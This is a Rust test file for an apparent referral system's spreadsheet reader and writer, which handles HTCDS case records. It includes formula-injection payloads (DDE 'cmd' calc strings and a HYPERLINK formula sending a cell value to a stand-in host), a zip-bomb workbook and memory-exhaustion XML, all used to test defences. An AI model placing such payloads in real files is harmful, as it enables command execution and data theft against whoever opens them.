//! Files in a folder. Here the sheets of a small organization: HTCDS columns and codes, row errors in a copy, formulas never run and never
//! begun, and files made to hurt.

#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "what is not as a test says fails it by panicking at that line; none ships"
)]

mod htcds;
mod htcds_folder;
mod templates;

use std::io::{Cursor, Read, Write};

use calamine::{Data, Reader, Xlsx};
use proptest::prelude::*;
use rust_xlsxwriter::{Formula, Workbook};
use sangam_wire::config::SpreadsheetConfig;
use sangam_wire::spreadsheet::{
    RowError, RowErrorKind, SheetFormat, SheetReading, Spreadsheet, marked_up_copy, read_sheet,
};
use sangam_wire::{AnswerState, Delivery, FileFault, Found, Listed, Mark, Narrow, Returned, Wire, WireFault};
use serde_json::{Value, json};
use uuid::Uuid;

use crate::house::{self, Folder};

fn csv(text: &str) -> SheetReading {
    read_sheet(text.as_bytes(), SheetFormat::Csv).unwrap()
}

fn kinds(reading: &SheetReading) -> Vec<(usize, &str, RowErrorKind, usize)> {
    reading.errors.iter().map(|error| (error.row, error.column.as_str(), error.kind, error.length)).collect()
}

fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
    let name = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&name).unwrap();
    range.rows().map(|row| row.iter().map(ToString::to_string).collect()).collect()
}

fn formulas(bytes: &[u8]) -> usize {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
    let name = book.sheet_names()[0].clone();
    book.worksheet_formula(&name).unwrap().used_cells().filter(|(_, _, formula)| !formula.is_empty()).count()
}

#[test]
fn the_samples_read_the_same_in_both_formats() {
    let from_csv = read_sheet(&sangam_sandbox::sample_csv(), SheetFormat::Csv).unwrap();
    let from_xlsx = read_sheet(&sangam_sandbox::sample_xlsx().unwrap(), SheetFormat::Xlsx).unwrap();
    assert_eq!(from_csv.errors, []);
    assert_eq!(from_xlsx.errors, []);
    assert_eq!(from_csv.records.len(), sangam_sandbox::SAMPLE_ROWS);
    let plain = |reading: SheetReading| -> Vec<Value> {
        let rows = reading.records.into_iter().map(|mut row| {
            row.shift_remove("sangam_row");
            Value::Object(row)
        });
        rows.collect()
    };
    assert_eq!(from_xlsx.records[0]["sangam_row"], 3, "an empty row keeps its number");
    let (one, other) = (plain(from_csv), plain(from_xlsx));
    assert_eq!(one, other);
    assert_eq!(one[0]["prs_Birthdate"], "1998-02-11");
    assert_eq!(one[0]["vic_TypeOfExploitation"], json!(["ForcedLabour", "Servitude"]));
    assert_eq!(one[0]["sangam_share"], true);
    assert!(one[1].get("prs_SecondName").is_none());
}

#[test]
fn every_kind_of_cell_has_its_fault() {
    let reading = csv(concat!(
        "sangam_record,prs_Gender,prs_Birthdate,con_Consent,prs_NumberOfChildren,prs_Citizenship,prs_MobilePhone,prs_PrimaryLanguage,prs_Nickname,vic_TypeOfExploitation\n",
        "1,Feminine,2009-05-14,yes,2,NP;IN,+977 1 0000001,ne,,ForcedLabour; Servitude\n",
        "2,Female,14.5.2009,perhaps,two,Nepal,call me,Nepali,Shiu,ForcedLabour;Fun\n",
        "3,,2009-02-29,,,,,,,\n",
    ));
    assert_eq!(reading.records.len(), 1);
    use RowErrorKind::{UnknownCode, UnknownColumn, WrongType};
    let expected = [
        (3, "B", UnknownCode, 6),
        (3, "C", WrongType, 9),
        (3, "D", WrongType, 7),
        (3, "E", WrongType, 3),
        (3, "F", UnknownCode, 5),
        (3, "G", WrongType, 7),
        (3, "H", UnknownCode, 6),
        (3, "I", UnknownColumn, 4),
        (3, "J", UnknownCode, 16),
        (4, "C", WrongType, 10),
    ];
    assert_eq!(kinds(&reading), expected);
    assert!(!format!("{:?}", reading.errors).contains("Shiu"), "no value in what is said");
}

#[test]
fn deprecated_and_double_columns_are_told() {
    let reading =
        csv("sangam_record,vic_AgreementToManagePersonalData,prs_FirstName,prs_FirstName\n1,yes,Asha,Asha\n2,,Asha,\n");
    assert_eq!(
        kinds(&reading),
        [(2, "B", RowErrorKind::DeprecatedColumn, 3), (2, "D", RowErrorKind::DuplicateColumn, 4)]
    );
    assert_eq!(reading.errors[0].hint.as_deref(), Some("con_Consent"));
    assert_eq!(reading.records.len(), 1);
}

#[test]
fn more_cells_than_columns_are_a_row_error() {
    let reading = csv("sangam_record,prs_FirstName\n1,Asha,extra\n2\n");
    assert_eq!(kinds(&reading), [(2, "C", RowErrorKind::UnknownColumn, 5)]);
    assert_eq!(reading.records.len(), 1);
}

#[test]
fn formulas_in_a_csv_are_row_errors_and_telephone_numbers_are_not() {
    for formula in [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(A1)",
        "+SUM(A1)",
        "-A1",
        "\"\t=1\"",
        "\"\r=1\"",
        " =1",
        "+1+cmd|'/C calc'!A0",
        "\u{ff1d}1",
        "-2+3+cmd|' /C calc'!A0",
    ] {
        let reading = csv(&format!("sangam_record,prs_FirstName\n1,{formula}\n"));
        assert_eq!(
            kinds(&reading).iter().map(|fault| fault.2).collect::<Vec<_>>(),
            [RowErrorKind::Formula],
            "{formula}"
        );
    }
    let reading = csv("sangam_record,prs_MobilePhone,prs_MailingLongitude\n1,+8801700000000,-17.5\n");
    assert_eq!(reading.errors, []);
    assert_eq!(reading.records[0]["prs_MailingLongitude"], json!(-17.5));
}

#[test]
fn formulas_in_a_workbook_are_row_errors_whatever_they_would_give() {
    let mut book = Workbook::new();
    let page = book.add_worksheet();
    page.write_string(0, 0, "sangam_record").unwrap();
    page.write_string(0, 1, "prs_FirstName").unwrap();
    page.write_string(1, 0, "1").unwrap();
    page.write_formula(1, 1, Formula::new("=HYPERLINK(\"http://x.example/\"&A2)").set_result("Asha")).unwrap();
    page.write_string(2, 0, "2").unwrap();
    page.write_string(2, 1, "=just text").unwrap();
    let bytes = book.save_to_buffer().unwrap();
    let reading = read_sheet(&bytes, SheetFormat::Xlsx).unwrap();
    assert_eq!(reading.errors.len(), 1);
    assert_eq!((reading.errors[0].row, reading.errors[0].kind), (2, RowErrorKind::Formula));
    assert_eq!(reading.records[0]["prs_FirstName"], "=just text");
    let copy = marked_up_copy(&bytes, SheetFormat::Xlsx, &reading.errors).unwrap();
    assert_eq!(formulas(&bytes), 1);
    assert_eq!(formulas(&copy), 0, "the copy shows the formula and does not have it");
}

#[test]
fn the_copy_is_the_sheet_with_its_errors_beside() {
    for format in [SheetFormat::Csv, SheetFormat::Xlsx] {
        let original = "sangam_record,prs_Gender,prs_FirstName,shoe\n1,Female,Asha,\n2,Feminine,Mina,\n3,,Tara,44\n";
        let bytes = match format {
            SheetFormat::Csv => original.as_bytes().to_vec(),
            SheetFormat::Xlsx => {
                let mut book = Workbook::new();
                let page = book.add_worksheet();
                for (row, line) in (0_u32..).zip(original.lines()) {
                    for (column, cell) in (0_u16..).zip(line.split(',')) {
                        page.write_string(row, column, cell).unwrap();
                    }
                }
                book.save_to_buffer().unwrap()
            }
        };
        let reading = read_sheet(&bytes, format).unwrap();
        let mut errors = reading.errors;
        errors.push(RowError {
            row: 3,
            column: String::new(),
            kind: RowErrorKind::NotTakenIn,
            length: 0,
            hint: Some("/facts/age".to_owned()),
        });
        let copy = marked_up_copy(&bytes, format, &errors).unwrap();
        let rows: Vec<Vec<String>> = match format {
            SheetFormat::Xlsx => cells(&copy),
            SheetFormat::Csv => {
                let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(copy.as_slice());
                reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
            }
        };
        assert_eq!(rows[0], ["sangam_record", "prs_Gender", "prs_FirstName", "shoe", "sangam_errors"]);
        assert_eq!(rows[1][4], "column B: UNKNOWN_CODE (6 characters)");
        assert_eq!(rows[2][4], "row: NOT_TAKEN_IN (0 characters, see /facts/age)");
        assert_eq!(rows[3][4], "column D: UNKNOWN_COLUMN (2 characters)");
        assert_eq!(rows[1][2], "Asha");
        let mended = String::from_utf8_lossy(&copy).replace("Female", "Feminine");
        if format == SheetFormat::Csv {
            let again = read_sheet(mended.as_bytes(), format).unwrap();
            assert_eq!(again.errors.len(), 1, "the copy itself can be mended and sent in");
        }
    }
}

#[test]
fn other_separators_byte_order_marks_and_encodings() {
    for text in [
        "sangam_record;prs_FirstName\r\n1;Asha\r\n",
        "\u{feff}sangam_record,prs_FirstName\n1,Asha\n",
        "sangam_record\tprs_FirstName\n1\tAsha\n",
    ] {
        let reading = csv(text);
        assert_eq!(reading.records[0]["prs_FirstName"], "Asha", "{text}");
    }
    let format = WireFault::File(FileFault::Format);
    for bytes in [&b"\xff\xfes\0a\0"[..], b"sangam_record\n\xe9\n", b"", b"\n\n", b",,,\n"] {
        assert_eq!(read_sheet(bytes, SheetFormat::Csv).unwrap_err(), format, "{bytes:?}");
    }
    for bytes in [
        &b""[..],
        b"PK\x03\x04",
        b"sangam_record,prs_FirstName\n1,Asha\n",
        &sangam_sandbox::sample_xlsx().unwrap()[..900],
    ] {
        assert_eq!(read_sheet(bytes, SheetFormat::Xlsx).unwrap_err(), format);
    }
}

#[test]
fn sheets_over_their_limits_are_refused() {
    let many_rows = format!("sangam_record\n{}", "1\n".repeat(5_001));
    let too_many = |unit| WireFault::TooLarge { limit: if unit == "rows" { 5_000 } else { 200 }, unit };
    assert_eq!(read_sheet(many_rows.as_bytes(), SheetFormat::Csv).unwrap_err(), too_many("rows"));
    assert!(read_sheet(format!("sangam_record\n{}", "1\n".repeat(5_000)).as_bytes(), SheetFormat::Csv).is_ok());
    let many_columns = format!("{}\n", vec!["a"; 201].join(","));
    assert_eq!(read_sheet(many_columns.as_bytes(), SheetFormat::Csv).unwrap_err(), too_many("columns"));
    let reading = csv(&format!("cco_CaseComment\n{}\n", "x".repeat(20_001)));
    assert_eq!(kinds(&reading), [(2, "A", RowErrorKind::TooLong, 20_001)]);
}

/// A workbook with one part replaced.
fn workbook_with(part: &str, content: &[u8]) -> Vec<u8> {
    let bytes = sangam_sandbox::sample_xlsx().unwrap();
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    for place in 0..archive.len() {
        let mut entry = archive.by_index(place).unwrap();
        let name = entry.name().unwrap().into_owned();
        let mut text = Vec::new();
        entry.read_to_end(&mut text).unwrap();
        out.start_file(name.as_str(), options).unwrap();
        out.write_all(if name == part { content } else { &text }).unwrap();
    }
    out.finish().unwrap().into_inner()
}

#[test]
fn a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_read() {
    let bomb = workbook_with("xl/theme/theme1.xml", &vec![b' '; 80 << 20]);
    assert!(bomb.len() < 1 << 20, "small on disk");
    assert!(matches!(
        read_sheet(&bomb, SheetFormat::Xlsx).unwrap_err(),
        WireFault::TooLarge { unit: "bytes unpacked", .. }
    ));
}

#[test]
fn a_workbook_that_announces_a_trillion_texts_takes_no_memory() {
    for announced in ["999999999999", "18446744073709551615", "99999999999999999999999"] {
        for encoding in ["utf-8", "utf-16"] {
            let text =
                format!("<?xml version=\"1.0\"?><sst uniqueCount=\"{announced}\" count=\"1\"><si><t>x</t></si></sst>");
            let bytes = match encoding {
                "utf-8" => text.into_bytes(),
                _ => [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect(),
            };
            let book = workbook_with("xl/sharedStrings.xml", &bytes);
            assert_eq!(
                read_sheet(&book, SheetFormat::Xlsx).unwrap_err(),
                WireFault::File(FileFault::Format),
                "{announced}"
            );
        }
    }
}

#[test]
fn a_cell_at_the_far_corner_and_a_formula_far_away_take_no_memory() {
    let sheet = |cell: &str| {
        format!(
            "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>{cell}</sheetData></worksheet>"
        )
    };
    let far = workbook_with(
        "xl/worksheets/sheet1.xml",
        sheet("<row r=\"1048576\"><c r=\"XFD1048576\" t=\"str\"><v>x</v></c></row>").as_bytes(),
    );
    assert!(matches!(read_sheet(&far, SheetFormat::Xlsx), Err(WireFault::TooLarge { unit: "columns", .. })));
    let shared = workbook_with(
        "xl/worksheets/sheet1.xml",
        sheet("<row r=\"1\"><c r=\"A1\"><f t=\"shared\" si=\"9999999999\" ref=\"A1:A2\">1+1</f><v>2</v></c></row>")
            .as_bytes(),
    );
    assert!(read_sheet(&shared, SheetFormat::Xlsx).is_ok());
}

impl Folder {
    fn sheets(&self, format: SheetFormat) -> Spreadsheet {
        let extension = if format == SheetFormat::Csv { "csv" } else { "xlsx" };
        let config = SpreadsheetConfig {
            folder: self.0.clone(),
            incoming: format!("register.{extension}"),
            outgoing: format!("referrals.{extension}"),
            format,
        };
        let narrow = Narrow {
            fields: vec!["sangam_record".to_owned(), "prs_Gender".to_owned()],
            referral_fields: Vec::new(),
            mark: Mark { field: "sangam_share".to_owned(), value: "true".to_owned() },
        };
        Spreadsheet::new(config, narrow, 1 << 20)
    }
}

#[tokio::test]
async fn marked_rows_come_in_narrow_and_the_copy_lies_beside() {
    let folder = Folder::new();
    let wire = folder.sheets(SheetFormat::Csv);
    assert_eq!(wire.fetch(None).await.unwrap_err(), WireFault::File(FileFault::Read));
    let text = "sangam_record,sangam_share,prs_Gender,prs_FirstName\n1,yes,Feminine,Asha\n2,no,Feminine,Mina\n3,,Feminine,Tara\n4,yes,Female,Lata\n";
    std::fs::write(folder.0.join("register.csv"), text).unwrap();
    let page = wire.fetch(None).await.unwrap();
    assert_eq!(page.records, [json!({"sangam_record": "1", "prs_Gender": "Feminine", "sangam_row": 2})]);
    assert_eq!((page.rejected, page.more), (1, false));
    assert!(std::fs::read_to_string(folder.0.join("register.errors.csv")).unwrap().contains("column C: UNKNOWN_CODE"));
    let returned =
        Returned { record: page.records[0].clone(), path: "/facts/age".to_owned(), kind: "MISSING", length: 0 };
    wire.give_back(&[returned]).await.unwrap();
    let copy = std::fs::read_to_string(folder.0.join("register.errors.csv")).unwrap();
    assert!(copy.contains("row: NOT_TAKEN_IN (0 characters, see /facts/age MISSING)"));
    assert!(copy.contains("column C: UNKNOWN_CODE"), "and what the sheet itself has wrong");
    let again = wire.fetch(Some(&page.cursor)).await.unwrap();
    assert_eq!(again.records, [] as [Value; 0], "an unchanged sheet gives nothing");
    std::fs::write(folder.0.join("register.csv"), text.replace("Female", "Feminine")).unwrap();
    assert_eq!(wire.fetch(Some(&page.cursor)).await.unwrap().records.len(), 2);
    std::fs::write(folder.0.join("register.csv"), vec![b'a'; 2 << 20]).unwrap();
    assert_eq!(wire.fetch(None).await.unwrap_err(), WireFault::TooLarge { limit: 1 << 20, unit: "bytes" });
}

/// What a sheet lists, and what it says of one row: of several rows of a record the one that shares least.
#[tokio::test]
async fn what_a_sheet_lists_and_what_one_row_is() {
    let folder = Folder::new();
    let wire = folder.sheets(SheetFormat::Csv);
    let text = "sangam_record,sangam_share,prs_Gender\n1,yes,Feminine\n2,no,Feminine\n3,yes,Female\n4,yes,Feminine\n4,yes,Female\n5,yes,Feminine\n5,no,Feminine\n";
    std::fs::write(folder.0.join("register.csv"), text).unwrap();
    let page = wire.fetch(None).await.unwrap();
    assert_eq!(page.records.len(), 1, "{:?}", page.records);
    assert_eq!(page.listed, Listed::Keys { first: true, keys: vec!["1".to_owned()] });
    assert_eq!(wire.fetch(Some(&page.cursor)).await.unwrap().listed, Listed::AsBefore);
    assert_eq!(wire.record("1").await.unwrap(), Found::Marked(page.records[0].clone()));
    for (key, found) in [
        ("2", Found::Unmarked),
        ("3", Found::Unreadable),
        ("4", Found::Unreadable),
        ("5", Found::Unmarked),
        ("6", Found::Gone),
    ] {
        assert_eq!(wire.record(key).await.unwrap(), found, "row {key}");
    }
    std::fs::remove_file(folder.0.join("register.csv")).unwrap();
    assert_eq!(wire.record("1").await.unwrap_err(), WireFault::File(FileFault::Read), "no sheet is not an empty one");
}

/// Of two rows that are shared and have one key, nobody can say which is true: neither is taken, and the copy says so.
#[tokio::test]
async fn two_shared_rows_of_one_key_are_unread() {
    let folder = Folder::new();
    let wire = folder.sheets(SheetFormat::Csv);
    let text = "sangam_record,sangam_share,prs_Gender\n1,yes,Feminine\n2,yes,Feminine\n 2 ,yes,Masculine\n3,no,Feminine\n3,no,Feminine\n";
    folder.put("register.csv", text);
    let page = wire.fetch(None).await.unwrap();
    assert_eq!(page.listed, Listed::Keys { first: true, keys: vec!["1".to_owned()] });
    assert_eq!((page.records.len(), page.rejected), (1, 2));
    assert_eq!(wire.record("2").await.unwrap(), Found::Unreadable);
    assert_eq!(wire.record("3").await.unwrap(), Found::Unmarked);
    let copy = folder.text("register.errors.csv");
    assert_eq!(copy.matches("row: DUPLICATE_RECORD (1 characters)").count(), 2, "{copy}");
    let returned = page.records[0].clone();
    let returned = Returned { record: returned, path: "/facts/age".to_owned(), kind: "MISSING", length: 0 };
    wire.give_back(&[returned]).await.unwrap();
    assert_eq!(folder.text("register.errors.csv").matches("DUPLICATE_RECORD").count(), 2, "what was found stays told");
    folder.put("register.csv", text.replace(" 2 ", "4"));
    let page = wire.fetch(Some(&page.cursor)).await.unwrap();
    assert_eq!((page.records.len(), page.rejected), (3, 0), "mended");
    assert!(!folder.text("register.errors.csv").contains("DUPLICATE_RECORD"));
}

fn offer(number: u128, row: Value) -> Delivery {
    house::offer(number, number + 100, json!({ "row": row }))
}

#[tokio::test]
async fn referrals_stand_once_each_and_the_organizations_answers_are_kept() {
    for format in [SheetFormat::Csv, SheetFormat::Xlsx] {
        let folder = Folder::new();
        let wire = folder.sheets(format);
        let mut delivered = Vec::new();
        for number in 1..=5 {
            let row = json!({"sangam_services": ["SHELTER", "HEALTH"], "prs_FirstName": format!("=N{number}"), "sangam_state": "SENT"});
            delivered.push(wire.deliver(&offer(number, row)).await.unwrap());
        }
        let again = wire.deliver(&offer(2, json!({"prs_FirstName": "@again", "sangam_state": "SENT"}))).await.unwrap();
        assert_eq!(again, delivered[1]);
        let path = folder.0.join(if format == SheetFormat::Csv { "referrals.csv" } else { "referrals.xlsx" });
        let answered = answer_in(&std::fs::read(&path).unwrap(), format);
        std::fs::write(&path, answered).unwrap();
        let states =
            |answers: Vec<sangam_wire::Answer>| answers.into_iter().map(|answer| answer.state).collect::<Vec<_>>();
        use AnswerState::{Accepted, Declined, Done, Waiting, Withdrawn};
        let answers = wire.answers(&delivered).await.unwrap();
        assert_eq!(answers[1].reason.as_deref(), Some("=full"));
        assert_eq!(states(answers), [Accepted, Declined, Done, Accepted, Waiting]);
        wire.deliver(&offer(1, json!({"prs_FirstName": "new", "sangam_state": "SENT"}))).await.unwrap();
        let withdrawal = Delivery::Withdrawal {
            record: delivered[4].record.clone(),
            referral: delivered[4].referral.clone().unwrap(),
        };
        wire.deliver(&withdrawal).await.unwrap();
        assert_eq!(states(wire.answers(&delivered).await.unwrap()), [Accepted, Declined, Done, Accepted, Withdrawn]);
        let bytes = std::fs::read(&path).unwrap();
        let text = match format {
            SheetFormat::Csv => String::from_utf8(bytes.clone()).unwrap(),
            SheetFormat::Xlsx => format!("{:?}", cells(&bytes)),
        };
        assert!(!text.contains("N5"), "what was withdrawn is no longer in the sheet");
        assert!(text.contains("N4"));
        let odd = Delivery::Offer { record: Uuid::nil(), referral: Uuid::nil(), body: json!({"row": {"shoe": 1}}) };
        assert!(matches!(wire.deliver(&odd).await.unwrap_err(), WireFault::Unexpected { .. }));
    }
}

/// A sheet that the hub could not read any more is not written: what stands in it is still answered and taken back.
#[tokio::test]
async fn a_full_sheet_takes_no_more_and_goes_on() {
    let full = WireFault::File(FileFault::Full);
    for format in [SheetFormat::Csv, SheetFormat::Xlsx] {
        let folder = Folder::new();
        let wire = folder.sheets(format);
        let name = if format == SheetFormat::Csv { "referrals.csv" } else { "referrals.xlsx" };
        // No two texts are alike, so that a workbook is large too.
        let letters = |seed: usize| -> String {
            let mut state = seed as u64 + 1;
            let mut letter = || {
                state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
                char::from(b'!' + u8::try_from((state >> 33) % 90).unwrap())
            };
            (0..19_000).map(|_| letter()).collect()
        };
        let row = |number: usize| json!({"cco_CaseComment": format!("x{}", letters(number)), "sangam_state": "SENT"});
        let mut delivered = Vec::new();
        let told = loop {
            let number = delivered.len();
            match wire.deliver(&offer(number as u128, row(number))).await {
                Ok(one) => delivered.push(one),
                Err(fault) => break fault,
            }
            assert!(number < 200, "for ever");
        };
        assert_eq!(told, full, "{format:?}");
        assert!(!told.is_of_the_system() && told.to_string().contains("take out of it"), "{told}");
        let before = std::fs::read(folder.0.join(name)).unwrap();
        assert!(before.len() <= 1 << 20 && delivered.len() > 40, "{} in {}", delivered.len(), before.len());
        assert_eq!(wire.answers(&delivered).await.unwrap().len(), delivered.len());
        let first = delivered[0].clone();
        let withdrawal = Delivery::Withdrawal { record: first.record, referral: first.referral.unwrap() };
        wire.deliver(&withdrawal).await.unwrap();
        assert_eq!(wire.answers(&delivered).await.unwrap()[0].state, AnswerState::Withdrawn);
        assert!(wire.deliver(&offer(900, row(900))).await.is_ok(), "there is room again");
    }
    // Rows and columns are counted too.
    let folder = Folder::new();
    let wire = folder.sheets(SheetFormat::Csv);
    let theirs: Vec<String> = (0..198).map(|number| format!("own {number}")).collect();
    let wide = format!("sangam_referral,{}\n", theirs.join(","));
    folder.put("referrals.csv", &wide);
    assert_eq!(wire.deliver(&offer(1, json!({"sangam_state": "SENT"}))).await.unwrap_err(), full);
    assert_eq!(folder.text("referrals.csv"), wide);
    let rows: String = (0..5_000).map(|number| format!("{number},SENT\n")).collect();
    folder.put("referrals.csv", format!("sangam_referral,sangam_state\n{rows}"));
    assert_eq!(wire.deliver(&offer(1, json!({"sangam_state": "SENT"}))).await.unwrap_err(), full);
    let withdrawal = Delivery::Withdrawal { record: "r".to_owned(), referral: "17".to_owned() };
    assert!(wire.deliver(&withdrawal).await.is_ok());
}

/// What the organization does: answers in the sheet, in its own program.
fn answer_in(bytes: &[u8], format: SheetFormat) -> Vec<u8> {
    let rows: Vec<Vec<String>> = match format {
        SheetFormat::Xlsx => cells(bytes),
        SheetFormat::Csv => {
            let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
            reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
        }
    };
    let column = |name: &str| rows[0].iter().position(|header| header == name).unwrap();
    let mut answered = rows.clone();
    answered[1][column("sangam_answer")] = "ACCEPTED".to_owned();
    answered[2][column("sangam_answer")] = "DECLINED".to_owned();
    answered[2][column("sangam_reason")] = if format == SheetFormat::Csv { "'=full" } else { "=full" }.to_owned();
    answered[3][column("sangam_answer")] = "DONE".to_owned();
    answered[4][column("cas_IncomingReferralDate")] = "2026-11-24".to_owned();
    answered[5][column("sangam_answer")] = "perhaps".to_owned();
    match format {
        SheetFormat::Csv => {
            let mut writer = ::csv::Writer::from_writer(Vec::new());
            for row in &answered {
                writer.write_record(row).unwrap();
            }
            writer.into_inner().unwrap()
        }
        SheetFormat::Xlsx => {
            let mut book = Workbook::new();
            let page = book.add_worksheet();
            for (row, line) in (0_u32..).zip(&answered) {
                for (column, cell) in (0_u16..).zip(line) {
                    page.write_string(row, column, cell).unwrap();
                }
            }
            book.save_to_buffer().unwrap()
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// Whatever a referral says, no cell of the sheet starts a formula, and the text comes back.
    #[test]
    fn nothing_written_starts_a_formula(text in "[=+@\t\r\n' \u{ff1d}-]{0,3}\\PC{1,20}") {
        let runtime = tokio::runtime::Builder::new_current_thread().build().unwrap();
        for format in [SheetFormat::Csv, SheetFormat::Xlsx] {
            let folder = Folder::new();
            let wire = folder.sheets(format);
            let row = json!({"cco_CaseComment": text.clone(), "sangam_record": "1"});
            runtime.block_on(wire.deliver(&offer(1, row))).unwrap();
            let name = if format == SheetFormat::Csv { "referrals.csv" } else { "referrals.xlsx" };
            let back = read_sheet(&std::fs::read(folder.0.join(name)).unwrap(), format).unwrap();
            let read = back.records.first().and_then(|row| row.get("cco_CaseComment")).and_then(Value::as_str);
            prop_assert_eq!(read.unwrap_or_default(), text.trim());
            match format {
                SheetFormat::Csv => {
                    let bytes = std::fs::read(folder.0.join("referrals.csv")).unwrap();
                    let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(bytes.as_slice());
                    for cell in reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()) {
                        prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}']), "{:?}", cell);
                        prop_assert!(!cell.trim_start().starts_with(['=', '+', '-', '@']), "{:?}", cell);
                    }
                }
                SheetFormat::Xlsx => {
                    let bytes = std::fs::read(folder.0.join("referrals.xlsx")).unwrap();
                    prop_assert_eq!(formulas(&bytes), 0);
                    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
                    let name = book.sheet_names()[0].clone();
                    let range = book.worksheet_range(&name).unwrap();
                    let texts = range.used_cells().all(|(_, _, cell)| matches!(cell, Data::String(_)));
                    prop_assert!(texts, "every cell is a text");
                }
            }
        }
    }

    /// No bytes make the reader panic or take long.
    #[test]
    fn any_bytes_are_a_sheet_or_a_fault(bytes in prop::collection::vec(any::<u8>(), 0..600)) {
        let _ = read_sheet(&bytes, SheetFormat::Csv);
        let _ = read_sheet(&bytes, SheetFormat::Xlsx);
    }
}
